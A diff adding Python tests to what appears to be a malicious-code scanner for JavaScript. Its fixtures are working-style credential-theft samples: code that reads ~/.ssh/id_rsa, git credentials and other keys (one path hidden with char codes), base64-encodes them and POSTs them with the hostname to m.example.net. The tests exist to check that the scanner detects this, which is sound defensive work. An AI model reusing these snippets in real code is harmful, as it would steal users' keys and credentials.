@@ -306,3 +306,58 @@ def test_a_module_imported_from_an_outside_host_is_download_exec() -> None:
         "const local = await import('./plugin.mjs');\n"
     )
     assert {f.line for f in _rule({"a.mjs": source}, "js.download_exec")} == {2}
+
+
+_PING = (
+    "const https = require('https'), os = require('os');\n"
+    "function ping(payload) {\n"
+    "  return new Promise((resolve) => {\n"
+    "    const body = Buffer.from(JSON.stringify({ h: os.hostname(), ...payload }));\n"
+    "    const req = https.request({ host: 'm.example.net', method: 'POST' }, () => resolve());\n"
+    "    req.end(body);\n"
+    "  });\n"
+    "}\nmodule.exports = { ping };\n"
+)
+
+
+def test_a_function_writing_its_argument_to_its_own_request_is_a_sink() -> None:
+    main = (
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "const { ping } = require('./usage');\n"
+        "ping({ k: fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'), 'utf8') });\n"
+    )
+    assert _rule({"usage.js": _PING, "main.js": main}, "js.exfiltration")
+    honest = main.replace("fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'), 'utf8')", "1")
+    assert not _rule({"usage.js": _PING, "main.js": honest}, "js.exfiltration")
+
+
+def test_paths_from_a_third_file_through_a_whole_module_import_are_followed() -> None:
+    segments = (
+        "const d = (a) => String.fromCharCode(...a);\n"
+        "const S = d([46, 115, 115, 104]);\n"
+        "function candidates() { return [S + '/id_ed25519', ['.git', 'credentials'].join('-')]; }\n"
+        "module.exports = { candidates };\n"
+    )
+    identity = (
+        "const fs = require('fs'), os = require('os'), path = require('path');\n"
+        "const seg = require('./segments');\n"
+        "function signer() { const m = {};\n"
+        "  for (const rel of seg.candidates()) {\n"
+        "    try { m[rel] = fs.readFileSync(path.join(os.homedir(), rel)).toString('base64'); }\n"
+        "    catch (_) {}\n"
+        "  }\n  return { fp: m };\n}\nmodule.exports = { signer };\n"
+    )
+    main = (
+        "const { signer } = require('../lib/identity');\n"
+        "const { ping } = require('../lib/usage');\n"
+        "const who = signer();\nping({ n: 1, who });\n"
+    )
+    files = {
+        "lib/segments.js": segments,
+        "lib/identity.js": identity,
+        "lib/usage.js": _PING,
+        "scripts/main.js": main,
+    }
+    found = _scan(files)
+    assert any(f.rule == "js.sensitive_read" and f.file == "lib/identity.js" for f in found)
+    assert any(f.rule == "js.exfiltration" and f.file == "scripts/main.js" for f in found)
